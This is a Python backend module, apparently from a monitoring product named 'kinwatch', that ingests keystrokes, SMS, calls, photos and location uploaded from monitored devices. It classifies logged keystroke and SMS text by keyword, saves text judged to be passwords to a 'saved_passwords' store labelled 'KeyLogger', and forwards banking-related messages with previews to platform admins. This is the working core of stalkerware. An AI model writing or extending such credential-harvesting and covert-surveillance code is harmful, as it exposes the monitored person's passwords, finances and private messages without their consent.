"""Ingestion router: runs once per telemetry record created by a device.

Device uploads land before the backend sees them, so policy enforcement here
is a compensating delete rather than a pre-check. Text-bearing records are
classified and copied to the vault and alert destinations described by
``ROUTES``. Every destination is keyed by the source record id, which keeps
redelivery of the same record from duplicating anything.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from datetime import datetime, timezone
from enum import Enum
import logging
from typing import Any, Callable

from kinwatch.core.config import SYSTEM_ACTOR, get_settings
from kinwatch.core.errors import StoreError
from kinwatch.persistence import paths
from kinwatch.persistence.store import KeyedStore
from kinwatch.services.alert_sink import notify_account, notify_admins
from kinwatch.services.audit import ACTION_UPLOAD_BLOCKED
from kinwatch.services.classification import Category, KeywordSets, Verdict, classify
from kinwatch.services.policy_gate import PolicyGate
from kinwatch.services.quota import MediaType
from kinwatch.services.resilience import RetryPolicy, retry_async


logger = logging.getLogger(__name__)


class TelemetryKind(str, Enum):
    PHOTO = "photo"
    VIDEO = "video"
    AUDIO = "audio"
    CALLS = "calls"
    KEYSTROKES = "keystrokes"
    SMS = "sms"
    LOCATION = "location"
    APP_NOTIFICATIONS = "app_notifications"


# Kinds re-checked against the freeze flag; the media kinds also against quota.
GATED_KINDS = frozenset({TelemetryKind.PHOTO, TelemetryKind.VIDEO, TelemetryKind.AUDIO, TelemetryKind.CALLS})
MEDIA_QUOTA = {
    TelemetryKind.PHOTO: MediaType.PHOTOS,
    TelemetryKind.VIDEO: MediaType.VIDEOS,
    TelemetryKind.AUDIO: MediaType.AUDIO,
}
TEXT_KINDS = frozenset({TelemetryKind.KEYSTROKES, TelemetryKind.SMS})
_SOURCE_LABELS = {TelemetryKind.KEYSTROKES: "Keystroke", TelemetryKind.SMS: "SMS"}


@dataclass(frozen=True)
class Route:
    vault_bucket: str | None
    vault_type: str | None = None
    # SMS financial hits keep their own type so the vault can tell the sources apart.
    sms_vault_type: str | None = None
    priority: str | None = None
    alert_admins: bool = False
    alert_owner: bool = False
    save_credentials: bool = False


ROUTES: dict[Category, Route] = {
    Category.FINANCIAL: Route(
        vault_bucket="Banking_Logs",
        vault_type="FINANCIAL_RISK",
        sms_vault_type="FINANCIAL_SMS",
        priority="HIGH",
        alert_admins=True,
    ),
    Category.CREDENTIAL: Route(
        vault_bucket="Social_Logs",
        vault_type="SOCIAL_PASSWORD",
        priority="MEDIUM",
        save_credentials=True,
    ),
    Category.DANGER: Route(
        vault_bucket="Danger_Logs",
        vault_type="DANGER_ALERT",
        priority="CRITICAL",
        alert_owner=True,
    ),
    Category.NONE: Route(vault_bucket=None),
}


@dataclass(frozen=True)
class TelemetryEvent:
    uid: str
    device_key: str
    kind: str
    record_id: str
    record: dict[str, Any] | None

    @property
    def record_path(self) -> str:
        return paths.telemetry(self.uid, self.device_key, self.kind, self.record_id)


@dataclass
class IngestionOutcome:
    record_id: str
    action: str
    category: Category | None = None
    reason: str | None = None
    destinations: list[str] = field(default_factory=list)


def parse_kind(kind: str) -> TelemetryKind | None:
    try:
        return TelemetryKind(kind)
    except ValueError:
        return None


def extract_text(kind: TelemetryKind, record: dict[str, Any]) -> str:
    if kind is TelemetryKind.KEYSTROKES:
        return str(record.get("text") or record.get("keyText") or "")
    if kind is TelemetryKind.SMS:
        return str(record.get("smsBody") or "")
    return ""


class IngestionRouter:
    def __init__(
        self,
        *,
        gate: PolicyGate | None = None,
        keywords: KeywordSets | None = None,
        retry_policy: RetryPolicy | None = None,
        time_provider: Callable[[], datetime] | None = None,
    ) -> None:
        self._gate = gate or PolicyGate()
        self._keywords = keywords or KeywordSets.from_settings(get_settings())
        self._retry_policy = retry_policy
        self._time_provider = time_provider or (lambda: datetime.now(timezone.utc))

    def _now_ms(self) -> int:
        return int(self._time_provider().timestamp() * 1000)

    async def handle_record_created(self, store: KeyedStore, event: TelemetryEvent) -> IngestionOutcome:
        kind = parse_kind(event.kind)
        if kind is None or not isinstance(event.record, dict):
            return IngestionOutcome(record_id=event.record_id, action="ignored")
        if kind in GATED_KINDS:
            return await self.enforce_upload_policy(store, event, kind)
        if kind in TEXT_KINDS:
            return await self.route_text(store, event, kind, event.record)
        return IngestionOutcome(record_id=event.record_id, action="passed")

    async def enforce_upload_policy(
        self, store: KeyedStore, event: TelemetryEvent, kind: TelemetryKind
    ) -> IngestionOutcome:
        decision = await self._gate.check_allowed(
            store,
            event.uid,
            MEDIA_QUOTA.get(kind),
            actor_id=SYSTEM_ACTOR,
            audit_action=ACTION_UPLOAD_BLOCKED,
            audit_metadata={"deviceKey": event.device_key, "kind": kind.value, "recordId": event.record_id},
        )
        if decision.allowed:
            return IngestionOutcome(record_id=event.record_id, action="passed")
        # The record already landed; remove it rather than leave a denied upload in place.
        await store.remove(event.record_path)
        logger.info(
            "upload_removed uid=%s device=%s kind=%s record_id=%s reason=%s",
            event.uid,
            event.device_key,
            kind.value,
            event.record_id,
            decision.reason.value if decision.reason else None,
        )
        return IngestionOutcome(
            record_id=event.record_id,
            action="removed",
            reason=decision.reason.value if decision.reason else None,
        )

    async def route_text(
        self, store: KeyedStore, event: TelemetryEvent, kind: TelemetryKind, record: dict[str, Any]
    ) -> IngestionOutcome:
        text = extract_text(kind, record)
        if not text:
            return IngestionOutcome(record_id=event.record_id, action="ignored")
        verdict = classify(text, self._keywords)
        route = ROUTES[verdict.category]
        outcome = IngestionOutcome(record_id=event.record_id, action="routed", category=verdict.category)
        if route.vault_bucket is None:
            outcome.action = "passed"
            return outcome

        entry = self._vault_entry(event, kind, verdict, route)
        vault_path = paths.vault(event.uid, route.vault_bucket, event.record_id)
        # Primary destination: failures propagate so the trigger is reported as failed.
        await store.set(vault_path, entry)
        outcome.destinations.append(vault_path)

        if route.save_credentials:
            saved = await self._write_secondary(
                store,
                event,
                target_path=paths.saved_passwords(event.uid, event.record_id),
                payload=self._saved_credential(event, kind, verdict),
            )
            if saved:
                outcome.destinations.append(paths.saved_passwords(event.uid, event.record_id))
        if route.alert_admins:
            await notify_admins(
                store,
                level="CRITICAL",
                message=f"Financial Guardian Alert: banking keywords detected for account {event.uid}",
                data={
                    "user": event.uid,
                    "deviceKey": event.device_key,
                    "source": _SOURCE_LABELS[kind],
                    "sender": record.get("smsAddress"),
                    "content": verdict.preview(100),
                },
                key=f"{kind.value}-{event.record_id}",
                now=self._time_provider(),
            )
            outcome.destinations.append(paths.admin_alerts())
        if route.alert_owner:
            await notify_account(
                store,
                event.uid,
                level="CRITICAL",
                message=(
                    f"URGENT: critical safety alert detected on device {event.device_key}. "
                    f"Content: {verdict.preview(50)}..."
                ),
                data={"deviceKey": event.device_key, "source": _SOURCE_LABELS[kind], "recordId": event.record_id},
                key=f"{kind.value}-{event.record_id}",
                now=self._time_provider(),
            )
            outcome.destinations.append(paths.notifications(event.uid))

        logger.info(
            "text_routed uid=%s device=%s kind=%s record_id=%s category=%s",
            event.uid,
            event.device_key,
            kind.value,
            event.record_id,
            verdict.category.value,
        )
        return outcome

    def _vault_entry(
        self, event: TelemetryEvent, kind: TelemetryKind, verdict: Verdict, route: Route
    ) -> dict[str, Any]:
        vault_type = route.sms_vault_type if kind is TelemetryKind.SMS and route.sms_vault_type else route.vault_type
        entry: dict[str, Any] = {
            "text": verdict.stored_text,
            "detected_at": self._now_ms(),
            "type": vault_type,
            "priority": route.priority,
            "source": _SOURCE_LABELS[kind],
            "deviceKey": event.device_key,
        }
        if kind is TelemetryKind.SMS and event.record:
            entry["sender"] = event.record.get("smsAddress") or "Unknown"
        return entry

    def _saved_credential(self, event: TelemetryEvent, kind: TelemetryKind, verdict: Verdict) -> dict[str, Any]:
        payload: dict[str, Any] = {
            "text": verdict.stored_text,
            "detected_at": self._now_ms(),
            "source": "KeyLogger" if kind is TelemetryKind.KEYSTROKES else "SMS",
            "deviceKey": event.device_key,
        }
        if kind is TelemetryKind.SMS and event.record:
            payload["sender"] = event.record.get("smsAddress") or "Unknown"
        return payload

    async def _write_secondary(
        self,
        store: KeyedStore,
        event: TelemetryEvent,
        *,
        target_path: str,
        payload: dict[str, Any],
    ) -> bool:
        # Secondary leg of a dual write: retried, never rolled back, dead-lettered on exhaustion.
        try:
            await retry_async(lambda: store.set(target_path, payload), policy=self._retry_policy)
            return True
        except StoreError as exc:
            logger.warning(
                "secondary_write_failed uid=%s record_id=%s target=%s",
                event.uid,
                event.record_id,
                target_path,
                exc_info=exc,
            )
        try:
            await store.set(
                paths.dead_letter(event.uid, event.record_id),
                {
                    "target_path": target_path,
                    "payload": payload,
                    "failed_at": self._now_ms(),
                    "kind": event.kind,
                    "deviceKey": event.device_key,
                },
            )
        except StoreError as exc:
            logger.error(
                "dead_letter_write_failed uid=%s record_id=%s target=%s",
                event.uid,
                event.record_id,
                target_path,
                exc_info=exc,
            )
        return False

    async def handle_device_status(
        self,
        store: KeyedStore,
        uid: str,
        device_key: str,
        status: dict[str, Any] | None,
    ) -> bool:
        """Alert the owner about a low battery, at most once per cooldown window per device."""
        if not isinstance(status, dict):
            return False
        settings = get_settings()
        battery = status.get("battery")
        if not isinstance(battery, (int, float)) or battery >= settings.battery_alert_threshold:
            return False
        now_ms = self._now_ms()
        cooldown_ms = settings.battery_alert_cooldown_s * 1000

        def _claim(current: Any) -> Any:
            last = current if isinstance(current, (int, float)) else 0
            return now_ms if now_ms - last > cooldown_ms else current

        # Claiming the alert slot in a transaction keeps concurrent status updates from double-alerting.
        claimed = await store.transaction(paths.last_battery_alert(uid, device_key), _claim)
        if claimed != now_ms:
            return False
        await notify_account(
            store,
            uid,
            level="WARNING",
            message=f"Low Battery Alert: device battery is at {battery}%. Please charge soon.",
            data={"deviceKey": device_key, "battery": battery},
            now=self._time_provider(),
        )
        return True


_router: IngestionRouter | None = None


def get_ingestion_router() -> IngestionRouter:
    global _router
    if _router is None:
        _router = IngestionRouter()
    return _router


def reset_ingestion_router() -> None:
    global _router
    _router = None
